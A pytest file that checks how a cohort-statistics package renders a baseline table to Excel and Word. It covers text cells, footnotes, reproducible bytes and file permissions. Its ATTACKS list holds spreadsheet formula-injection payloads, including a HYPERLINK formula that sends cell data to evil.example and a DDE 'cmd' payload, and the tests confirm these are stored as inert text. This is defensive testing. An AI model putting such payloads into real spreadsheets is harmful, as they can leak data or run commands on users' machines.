"""Excel and Word renderings: the table as its HTML page shows it (title, header row, rows, footnotes), every cell
text (a formula-like label is never a formula), the same bytes every time, and readable by the group."""

from __future__ import annotations

import io
import os
import stat
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook
from tkicohort.io import write_bytes
from tkicohort.stats.office import to_docx, to_xlsx
from tkicohort.stats.printed import Printed

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd",
           "  =1+1"]


def table() -> Printed:
    rows = [["Sex", "", "0.465²"], ["Female", "15 (65.2)", ""], ["Male", "8 (34.8)", ""],
            *([a, "1 (4.3)", ""] for a in ATTACKS), ["bell\x07 and\x00null", "9.5 (7.1–12.0)", ""]]
    return Printed("Baseline characteristics — <cohort>", ["Characteristic", "control (N = 23)¹", "p"], rows,
                   indent=[0, 1, 1] + [1] * (len(rows) - 3), footnotes=["¹ n (%).", "² Pearson's χ² test."])


def test_xlsx_holds_title_header_rows_and_footnotes_as_text():
    p = table()
    sheet = load_workbook(io.BytesIO(to_xlsx(p))).active
    assert sheet["A1"].value == p.title and sheet["A1"].font.bold
    assert [c.value for c in sheet[3]] == p.header and all(c.font.bold for c in sheet[3])
    for i, row in enumerate(p.rows, start=4):
        expected = [v.replace("\x07", "\ufffd").replace("\x00", "\ufffd") for v in row]
        assert [c.value or "" for c in sheet[i]] == expected
        assert all(c.data_type == "s" for c in sheet[i] if c.value)
    assert sheet.cell(row=5, column=1).alignment.indent > 0 and sheet.cell(row=4, column=1).alignment.indent == 0
    last = 3 + len(p.rows)
    assert [sheet.cell(row=last + 2 + k, column=1).value for k in range(2)] == p.footnotes


def test_xlsx_formula_like_cells_are_text_with_a_quote_prefix():
    data = to_xlsx(table())
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    found = {c.value: c for row in sheet.iter_rows() for c in row if c.value in ATTACKS}
    assert set(found) == set(ATTACKS)
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_docx_holds_title_table_and_footnotes():
    p = table()
    document = Document(io.BytesIO(to_docx(p)))
    paragraphs = [x.text for x in document.paragraphs]
    assert paragraphs[0] == p.title and document.paragraphs[0].runs[0].bold
    grid = [[c.text for c in r.cells] for r in document.tables[0].rows]
    assert grid[0] == p.header
    assert grid[1:] == [[v.replace("\x07", "\ufffd").replace("\x00", "\ufffd") for v in r] for r in p.rows]
    assert paragraphs[-2:] == p.footnotes
    body = document.tables[0]._tbl.xml
    assert "w:noWrap" in body and "w:tblBorders" in body


@pytest.mark.parametrize("render", [to_xlsx, to_docx], ids=["xlsx", "docx"])
def test_the_same_table_gives_the_same_bytes_with_fixed_times(render):
    first, second = render(table()), render(table())
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as package:
        assert {i.date_time for i in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = package.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core and "python-docx" not in core and "openpyxl" not in core


@pytest.mark.parametrize("render", [to_xlsx, to_docx], ids=["xlsx", "docx"])
def test_written_files_are_readable_by_the_group(tmp_path, render):
    old = os.umask(0o022)
    try:
        write_bytes(render(table()), tmp_path / "t")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "t").stat().st_mode) == 0o644


def test_docx_package_is_what_python_docx_saves_with_fixed_times():
    """The package is written member by member (one compression instead of two); it must be exactly python-docx's
    own ``save`` with the times fixed, so a change in python-docx's writer shows here."""
    from tkicohort.stats.office import _docx_package, _new_document, normalised_package

    document = _new_document()
    document.add_paragraph("text — ü").add_run("=1+1").bold = True
    document.add_table(rows=2, cols=2).rows[1].cells[1].text = "9.5 (7.1–12.0)"
    saved = io.BytesIO()
    document.save(saved)
    assert _docx_package(document) == normalised_package(saved.getvalue())


def test_a_table_does_not_change_the_next_one():
    """The Word document is a copy of a template parsed once: rendering a wide table (landscape page) between two
    renderings of a narrow one leaves the narrow one's bytes unchanged."""
    p = table()
    first = to_docx(p)
    wide = Printed("wide", [f"column {j}" for j in range(9)], [["x" * 30] * 9], indent=[0], footnotes=["n"])
    to_docx(wide)
    assert to_docx(p) == first
